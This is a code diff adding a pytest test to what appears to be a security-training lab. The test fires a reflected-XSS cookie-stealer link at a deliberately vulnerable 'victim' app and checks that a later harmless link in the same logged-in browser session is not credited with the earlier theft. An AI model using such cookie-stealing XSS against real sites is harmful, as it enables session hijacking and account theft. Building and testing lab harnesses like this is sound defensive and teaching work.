@@ -303,3 +303,21 @@ def test_forms_refuse_cross_site_posts_but_work_on_their_page(
     assert landed == victim + "/login"
     with httpx.Client(base_url=victim, trust_env=False) as client:
         assert client.get("/api/_lab/victim").json()["password"] == "a brand new passphrase"
+
+
+def test_thefts_in_one_logged_in_profile_are_judged_per_visit(vulnerable: LabServer) -> None:
+    """``victim_session`` shares alice's login between probes: a harmless link opened after a
+    successful theft in the same profile is not credited with the earlier loot."""
+    victim, attacker = vulnerable.url, vulnerable.urls["attacker"]
+    stealer = xss.search_url(victim, xss.cookie_stealer(attacker))
+    harmless = xss.search_url(victim, "tea")
+
+    def work(b: Any) -> tuple[xss.Probe, xss.Probe]:
+        with xss.victim_session(b, victim) as session:
+            stolen = xss.steal_cookie(victim, attacker, stealer, browser=b, session=session)
+            after = xss.steal_cookie(victim, attacker, harmless, browser=b, session=session)
+        return stolen, after
+
+    stolen, after = run_in_browser(work)
+    assert stolen.succeeded, stolen
+    assert not after.succeeded and after.data["cookie"] == stolen.data["cookie"], after
